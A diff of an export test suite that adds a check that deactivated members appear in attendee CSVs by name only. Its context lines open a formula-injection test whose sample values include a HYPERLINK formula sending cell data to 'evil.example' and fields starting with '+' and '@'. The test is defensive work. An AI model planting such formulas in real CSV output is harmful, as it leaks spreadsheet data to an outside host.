@@ -48,6 +48,21 @@ describe('exports: CSV and iCalendar', () => {
   }
 
   describe('attendee CSV', () => {
+    it('shows a former member (oud-lid) by name only', async () => {
+      const { id, coordinator } = await anEvent('Leesatelier');
+      const school = await aSchool(t.dataSource, { name: 'OBS De Linde', town: 'Ede' });
+      const leaving = await signedIn(PlatformRole.MEMBER, { name: 'Bram Oud', school });
+      expect((await gql(leaving.agent, REGISTER, { id })).errors).toBeUndefined();
+      await t.dataSource.query(`UPDATE member SET status = 'DEACTIVATED' WHERE id = $1`, [
+        leaving.member.id,
+      ]);
+      const res = await coordinator.get(`/export/events/${id}/attendees.csv`);
+      const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
+      expect(rows).toHaveLength(1);
+      expect(rows[0]).toMatchObject({ naam: 'Bram Oud', 'e-mail': '', school: '' });
+      expect(res.text).not.toContain(leaving.member.email);
+    });
+
     it('neutralises cells that a spreadsheet would run as a formula', async () => {
       const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Sanne")';
       const school = await aSchool(t.dataSource, { name: '+SUM(1,2)', town: '@Ede' });
